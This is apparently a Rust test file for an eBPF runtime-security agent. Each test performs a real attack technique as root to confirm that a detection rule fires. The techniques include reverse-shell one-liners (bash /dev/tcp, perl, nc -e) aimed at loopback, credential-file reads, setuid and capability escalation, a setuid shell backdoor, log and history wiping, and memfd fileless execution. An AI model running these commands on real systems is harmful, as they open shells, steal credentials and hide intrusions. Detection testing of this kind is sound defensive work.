//! The default rules about the node itself, each proven by doing the real thing on the host
//! with the agent running: the alert's rule, priority, ATT&CK tags and key fields.
//! Root, real eBPF (like every kernel_* and rules_* test).

mod rules_support;
mod support;

use rules_support::*;

#[test]
fn rules_shell_spawned_by_server_process() {
    // A web server runs a CGI program, and the program starts a shell: what an exploited web
    // application does. busybox httpd on loopback, fetched with busybox wget.
    let d = TempDir::new("cgi");
    std::fs::create_dir_all(d.join("www/cgi-bin")).unwrap();
    std::fs::write(
        d.join("www/cgi-bin/run.cgi"),
        "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nsh -c 'id; true'\n",
    )
    .unwrap();
    bash_ok(&format!(
        "chmod +x {0}/www/cgi-bin/run.cgi && ln -sf /bin/busybox {0}/httpd",
        d.s()
    ));
    let port = support::free_port();
    let mut agent = agent();
    let mut httpd = std::process::Command::new(d.join("httpd"))
        .args(["-f", "-p", &format!("127.0.0.1:{port}"), "-h"])
        .arg(d.join("www"))
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    let body = bash(&format!(
        "busybox wget -q -O - http://127.0.0.1:{port}/cgi-bin/run.cgi"
    ));
    let _ = httpd.kill();
    let _ = httpd.wait();
    assert!(
        String::from_utf8_lossy(&body.stdout).contains("uid=0"),
        "the CGI ran: {body:?}"
    );
    let a = alert(&mut agent, "Shell spawned by server process", |v| {
        field(v, "proc.cmdline") == "sh -c id; true"
    });
    check(
        &a,
        "Notice",
        &["mitre_execution", "T1059.004"],
        &[
            ("proc.name", "sh"),
            ("proc.pname", "run.cgi"),
            ("proc.aname[2]", "httpd"),
        ],
    );
}

#[test]
fn rules_sensitive_file_reads() {
    let mut agent = agent();

    // Password databases (and their backups).
    bash_ok("head -c0 /etc/gshadow /etc/gshadow-");
    for f in ["/etc/gshadow", "/etc/gshadow-"] {
        let a = alert(&mut agent, "Read sensitive file", |v| {
            field(v, "fd.name") == f
        });
        check(&a, "Warning", &["T1003.008"], &[("proc.name", "head")]);
    }

    // An SSH private key in somebody's .ssh; the public half is not reported.
    let d = TempDir::new("ssh");
    std::fs::create_dir_all(d.join("home/.ssh")).unwrap();
    std::fs::write(d.join("home/.ssh/id_ed25519"), "key").unwrap();
    std::fs::write(d.join("home/.ssh/id_ed25519.pub"), "pub").unwrap();
    bash_ok(&format!(
        "cat {0}/home/.ssh/id_ed25519.pub {0}/home/.ssh/id_ed25519",
        d.s()
    ));
    let key = format!("{}/home/.ssh/id_ed25519", d.s());
    let a = alert(&mut agent, "Read SSH private key", |v| {
        field(v, "fd.name") == key
    });
    check(
        &a,
        "Warning",
        &["mitre_credential_access", "T1552.004"],
        &[("proc.name", "cat")],
    );

    // The kubelet's copy of a pod's service-account token, and the node's kubelet credentials.
    let uid = format!("osprey-test-{}", std::process::id());
    let token = format!(
        "/var/lib/kubelet/pods/{uid}/volumes/kubernetes.io~projected/kube-api-access-x/token"
    );
    let _t = Planted::new(&token, "eyJhbGciOi");
    let cert = format!(
        "/etc/kubernetes/pki/etcd/osprey-test-{}.key",
        std::process::id()
    );
    let _c = Planted::new(&cert, "key");
    bash_ok(&format!("cat {token} {cert} >/dev/null"));
    let a = alert(&mut agent, "Read Kubernetes service account token", |v| {
        field(v, "fd.name") == token
    });
    check(&a, "Warning", &["T1528"], &[("proc.name", "cat")]);
    let a = alert(&mut agent, "Read Kubernetes node credentials", |v| {
        field(v, "fd.name") == cert
    });
    check(
        &a,
        "Warning",
        &["mitre_credential_access"],
        &[("proc.name", "cat")],
    );

    // Nothing about the public key.
    let pubkey = format!("{key}.pub");
    none_seen(&mut agent, "public key reported", |v| {
        field(v, "fd.name") == pubkey
    });
}

#[test]
fn rules_execution_from_dev_shm() {
    let exe = format!("/dev/shm/osprey-rules-{}", std::process::id());
    std::fs::copy("/bin/true", &exe).unwrap();
    let mut agent = agent();
    let out = std::process::Command::new(&exe).output();
    let _ = std::fs::remove_file(&exe);
    assert!(out.unwrap().status.success());
    let a = alert(&mut agent, "Execution from /dev/shm", |v| {
        field(v, "proc.exepath") == exe
    });
    check(&a, "Warning", &["mitre_defense_evasion", "T1036.005"], &[]);
}

/// The loader run as a program on a copy of `id` (the process's executable is the loader,
/// whatever it ran), and ldd, which runs the loader itself.
#[test]
fn rules_program_run_through_the_dynamic_loader() {
    let d = TempDir::new("loader");
    let exe = d.join("id");
    std::fs::copy("/usr/bin/id", &exe).unwrap();
    let mut agent = agent();
    let ran = bash(&format!(
        "/lib64/ld-linux-x86-64.so.2 {} -u; ldd /usr/bin/true",
        exe.display()
    ));
    assert!(ran.status.success(), "{ran:?}");
    assert!(
        String::from_utf8_lossy(&ran.stdout).starts_with("0\n"),
        "{ran:?}"
    );
    let a = alert(&mut agent, "Program run through the dynamic loader", |v| {
        field(v, "proc.args").contains(exe.to_str().unwrap())
    });
    check(&a, "Warning", &["T1218"], &[("container.id", "host")]);
    let seen = agent.collect_for(std::time::Duration::from_millis(500));
    assert!(
        !seen
            .iter()
            .any(|v| v["rule"] == "Program run through the dynamic loader"
                && field(v, "proc.args").contains("/usr/bin/true")),
        "ldd reported: {seen:?}"
    );
}

#[test]
fn rules_namespace_changes_on_host() {
    let mut agent = agent();
    // unshare(CLONE_NEWNET) by a program no runtime started.
    bash_ok("unshare --net true");
    let a = alert(&mut agent, "Namespace change by unexpected process", |v| {
        field(v, "proc.name") == "unshare"
    });
    check(
        &a,
        "Notice",
        &["T1611"],
        &[("evt.type", "unshare"), ("evt.arg.flags", "CLONE_NEWNET")],
    );
    // setns: nsenter into the network namespace of another process.
    bash_ok("unshare --net sleep 3 & p=$!; sleep 0.3; nsenter -t $p -n true; kill $p");
    let a = alert(&mut agent, "Namespace change by unexpected process", |v| {
        field(v, "proc.name") == "nsenter"
    });
    check(&a, "Notice", &["T1611"], &[("evt.type", "setns")]);
}

#[test]
fn rules_ptrace() {
    let mut agent = agent();
    // Attach to a running process (what gdb -p and injectors do), then let it go.
    let out = bash_ok(
        "sleep 5 & s=$!; perl -e '$p = $ARGV[0] + 0; syscall(101, 16, $p, 0, 0) == 0 or die \"attach: $!\"; \
         waitpid($p, 0); syscall(101, 17, $p, 0, 0); print \"attached $p\"' $s; kill $s",
    );
    let pid = out.trim().strip_prefix("attached ").unwrap().to_string();
    let a = alert(&mut agent, "PTRACE attached to process", |v| {
        field(v, "evt.arg.pid") == pid
    });
    check(
        &a,
        "Warning",
        &["mitre_privilege_escalation", "T1055.008"],
        &[("evt.arg.request", "PTRACE_ATTACH"), ("proc.name", "perl")],
    );
    // PTRACE_TRACEME: a program making sure no debugger can attach.
    bash_ok("perl -e 'syscall(101, 0, 0, 0, 0)' osprey-traceme");
    let a = alert(&mut agent, "PTRACE anti-debug attempt", |v| {
        field(v, "proc.cmdline").ends_with("osprey-traceme")
    });
    check(&a, "Notice", &["T1622"], &[("proc.name", "perl")]);
}

#[test]
fn rules_kernel_tampering() {
    let mut agent = agent();
    // finit_module on a file that is no module: the attempt is what is reported (this kernel
    // may not even have module support; the call is made all the same).
    bash(
        "perl -e 'open(F, \"</dev/null\") or die; my $p = \"\"; syscall(313, fileno(F), $p, 0)' osprey-finit",
    );
    let a = alert(&mut agent, "Kernel module load", |v| {
        field(v, "proc.cmdline").ends_with("osprey-finit")
    });
    check(
        &a,
        "Critical",
        &["T1547.006"],
        &[("evt.type", "finit_module")],
    );

    // kexec_load with an invalid architecture in its flags: refused before anything is loaded.
    bash("perl -e 'syscall(246, 0, 0, 0, 0xffff0000)' osprey-kexec");
    let a = alert(&mut agent, "Kexec load", |v| {
        field(v, "proc.cmdline").ends_with("osprey-kexec")
    });
    check(
        &a,
        "Critical",
        &["mitre_defense_evasion"],
        &[("evt.type", "kexec_load")],
    );

    // A real BPF program load: a two-instruction socket filter (r0 = 0; exit).
    let out = bash_ok(
        r#"perl -e 'my $i = pack("CCsl", 0xb7, 0, 0, 0) . pack("CCsl", 0x95, 0, 0, 0); my $l = "GPL\0";
        my $a = pack("LLQQLLQLL", 1, 2, unpack("Q", pack("p", $i)), unpack("Q", pack("p", $l)), 0, 0, 0, 0, 0);
        print syscall(321, 5, $a, length $a)' osprey-bpf"#,
    );
    assert!(
        out.trim().parse::<i32>().unwrap() >= 0,
        "BPF_PROG_LOAD: {out}"
    );
    let a = alert(
        &mut agent,
        "BPF program loaded by unexpected process",
        |v| field(v, "proc.cmdline").ends_with("osprey-bpf"),
    );
    check(
        &a,
        "Error",
        &["T1014"],
        &[("evt.res", "SUCCESS"), ("proc.name", "perl")],
    );
}

#[test]
fn rules_privilege_escalation() {
    let mut agent = agent();
    // A non-root process holding CAP_SETUID (an ambient capability here, a file capability or
    // a leak in the wild) makes itself root.
    let out = bash_ok(
        "setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=+setuid --ambient-caps=+setuid \
         perl -e 'use POSIX; POSIX::setuid(0) or die \"setuid: $!\"; print $<' osprey-setuid",
    );
    assert_eq!(out.trim(), "0", "became root");
    let a = alert(&mut agent, "Setuid to root by non-root process", |v| {
        field(v, "proc.cmdline").ends_with("osprey-setuid")
    });
    check(
        &a,
        "Error",
        &["mitre_privilege_escalation", "T1548.001"],
        &[
            ("evt.type", "setuid"),
            ("user.uid", "0"),
            ("thread.cap_permitted", "CAP_SETUID"),
        ],
    );

    // A non-root process makes CAP_SYS_PTRACE effective with capset.
    bash_ok(
        "setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=+sys_ptrace --ambient-caps=+sys_ptrace \
         perl -e 'my $h = pack(\"LL\", 0x20080522, 0); my $d = pack(\"L6\", 1 << 19, 1 << 19, 1 << 19, 0, 0, 0); \
         syscall(126, $h, $d) == 0 or die \"capset: $!\"' osprey-capset",
    );
    let a = alert(&mut agent, "Capabilities raised by non-root process", |v| {
        field(v, "proc.cmdline").ends_with("osprey-capset")
    });
    check(
        &a,
        "Error",
        &["T1548"],
        &[("user.uid", "65534"), ("evt.arg.data", "CAP_SYS_PTRACE")],
    );

    // chmod u+s on a copy of a shell: the classic backdoor.
    let d = TempDir::new("suid");
    bash_ok(&format!(
        "cp /bin/sh {0}/rootsh && chmod 4755 {0}/rootsh",
        d.s()
    ));
    let a = alert(&mut agent, "Set setuid or setgid bit", |v| {
        field(v, "evt.arg.filename").ends_with("/rootsh")
    });
    check(
        &a,
        "Error",
        &["T1548.001"],
        &[("evt.arg.mode", "04755"), ("proc.name", "chmod")],
    );
    // chmod 755 is nothing of the kind.
    bash_ok(&format!("chmod 0755 {}/rootsh", d.s()));
    none_seen(&mut agent, "a plain chmod 0755 was reported", |v| {
        v["rule"] == "Set setuid or setgid bit" && field(v, "evt.arg.mode") == "0755"
    });
}

#[test]
fn rules_reverse_shell_netcat_packet_socket() {
    let mut agent = agent();

    // bash's /dev/tcp: the shell itself connects and takes its stdin and stdout from the socket.
    let port = loopback_listener();
    bash(&format!(
        "timeout 5 bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' </dev/null"
    ));
    let conn = format!("127.0.0.1:{port}");
    let a = alert(&mut agent, "Reverse shell", |v| field(v, "fd.name") == conn);
    check(
        &a,
        "Warning",
        &["mitre_execution", "T1059.004"],
        &[("evt.type", "connect"), ("proc.name", "bash")],
    );

    // perl one-liner: socket, connect, then the socket duplicated onto 0, 1 and 2.
    let port = loopback_listener();
    bash(&format!(
        r#"timeout 5 perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
        connect(S, sockaddr_in({port}, inet_aton("127.0.0.1"))) or die; open(STDIN, ">&S");
        open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");' osprey-revshell"#
    ));
    let a = alert(&mut agent, "Reverse shell", |v| {
        field(v, "proc.name") == "perl" && field(v, "proc.cmdline").ends_with("osprey-revshell")
    });
    check(&a, "Warning", &[], &[("evt.arg.newfd", "0")]);

    // nc -e: netcat hands a shell to the other end.
    let d = TempDir::new("nc");
    bash_ok(&format!("ln -s /bin/busybox {}/nc", d.s()));
    let port = loopback_listener();
    bash(&format!(
        "timeout 5 {}/nc 127.0.0.1 {port} -e /bin/true",
        d.s()
    ));
    let a = alert(&mut agent, "Netcat remote code execution", |v| {
        field(v, "proc.name") == "nc"
    });
    check(
        &a,
        "Warning",
        &["T1059"],
        &[("proc.cmdline", &format!("nc 127.0.0.1 {port} -e /bin/true"))],
    );

    // A raw packet socket, what sniffers and ARP spoofers open.
    bash_ok("perl -e 'socket(S, 17, 3, 0) or die \"socket: $!\"' osprey-packet");
    let a = alert(&mut agent, "Packet socket created", |v| {
        field(v, "proc.cmdline").ends_with("osprey-packet")
    });
    check(&a, "Notice", &["T1040"], &[("evt.arg.domain", "AF_PACKET")]);
}

#[test]
fn rules_defence_evasion() {
    let mut agent = agent();
    let log = format!("/var/log/osprey-rules-{}.log", std::process::id());
    std::fs::write(&log, "evidence\n").unwrap();
    bash_ok(&format!("sh -c ': > {log}'"));
    let a = alert(&mut agent, "Clear or delete log files", |v| {
        field(v, "fd.name") == log && field(v, "proc.name") == "sh"
    });
    check(&a, "Warning", &["T1070.002"], &[("evt.type", "openat")]);
    bash_ok(&format!("rm {log}"));
    let a = alert(&mut agent, "Clear or delete log files", |v| {
        field(v, "evt.arg.pathname") == log && field(v, "proc.name") == "rm"
    });
    check(&a, "Warning", &[], &[("evt.type", "unlinkat")]);

    let d = TempDir::new("history");
    std::fs::write(d.join(".bash_history"), "curl evil | sh\n").unwrap();
    let hist = format!("{}/.bash_history", d.s());
    bash_ok(&format!("rm {hist}"));
    let a = alert(&mut agent, "Delete or clear shell history", |v| {
        field(v, "evt.arg.name") == hist && field(v, "evt.type") == "unlinkat"
    });
    check(
        &a,
        "Warning",
        &["mitre_defense_evasion", "T1070.003"],
        &[("proc.name", "rm")],
    );
    bash_ok(&format!("ln -sf /dev/null {hist}"));
    alert(&mut agent, "Delete or clear shell history", |v| {
        field(v, "proc.name") == "ln" && field(v, "evt.type") == "symlinkat"
    });
}

#[test]
fn rules_links_over_sensitive_files() {
    // Hard links only work within one file system, so the link goes next to /etc.
    let d = TempDir::under(std::path::Path::new("/var/tmp"), "links");
    let mut agent = agent();
    bash_ok(&format!("ln -s /etc/shadow {}/s", d.s()));
    let a = alert(&mut agent, "Create symlink over sensitive file", |v| {
        field(v, "evt.arg.linkpath").ends_with(&format!("{}/s", d.s()))
    });
    check(
        &a,
        "Warning",
        &["T1003.008"],
        &[("evt.arg.target", "/etc/shadow"), ("proc.name", "ln")],
    );
    // Whether the hard link succeeds depends on the file systems; the attempt is reported.
    bash(&format!("ln /etc/shadow {}/h", d.s()));
    let a = alert(&mut agent, "Create hardlink over sensitive file", |v| {
        field(v, "evt.arg.newpath").ends_with(&format!("{}/h", d.s()))
    });
    check(
        &a,
        "Warning",
        &["T1003.008"],
        &[("evt.arg.oldpath", "/etc/shadow"), ("proc.name", "ln")],
    );
}

#[test]
fn rules_crypto_mining() {
    // A "miner" (bash under xmrig's name) given a Stratum pool URL logs in to the pool, a
    // listener of the test's own on loopback.
    let d = TempDir::new("miner");
    std::fs::copy("/bin/bash", d.join("xmrig")).unwrap();
    let port = loopback_listener();
    let mut agent = agent();
    bash(&format!(
        "{}/xmrig -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo \"{{\\\"method\\\":\\\"login\\\"}}\" >&3' \
         xmrig -o stratum+tcp://127.0.0.1:{port} -u wallet",
        d.s()
    ));
    let a = alert(&mut agent, "Crypto miner launched", |v| {
        field(v, "proc.name") == "xmrig"
    });
    check(
        &a,
        "Critical",
        &["mitre_impact", "T1496"],
        &[("proc.exepath", &format!("{}/xmrig", d.s()))],
    );
    let a = alert(&mut agent, "Stratum mining pool connection", |v| {
        field(v, "proc.name") == "xmrig"
    });
    check(
        &a,
        "Critical",
        &["T1496"],
        &[("fd.name", &format!("127.0.0.1:{port}"))],
    );
}

#[test]
fn rules_fileless_execution_via_memfd() {
    // The classic fileless loader: copy a program into an anonymous memory file and execute
    // it from there (busybox, run as its `echo` applet), nothing written to disk.
    let mut agent = agent();
    let out = bash_ok(
        "python3 -c 'import os; fd = os.memfd_create(\"payload\", 0); \
         os.write(fd, open(\"/bin/busybox\", \"rb\").read()); \
         os.execv(\"/proc/self/fd/%d\" % fd, [\"echo\", \"osprey-memfd-payload\"])'",
    );
    assert!(out.contains("osprey-memfd-payload"), "{out}");
    let a = alert(&mut agent, "Fileless execution via memfd", |v| {
        field(v, "proc.cmdline").ends_with(" osprey-memfd-payload")
    });
    // The exec path names the descriptor; the kernel's executable is the memfd itself.
    assert!(
        field(&a, "proc.exepath").starts_with("/memfd:payload"),
        "{a}"
    );
    assert!(
        field(&a, "proc.exepath_raw").starts_with("/proc/self/fd/"),
        "{a}"
    );
    check(
        &a,
        "Critical",
        &["mitre_defense_evasion", "T1620"],
        &[("container.id", "host")],
    );
}
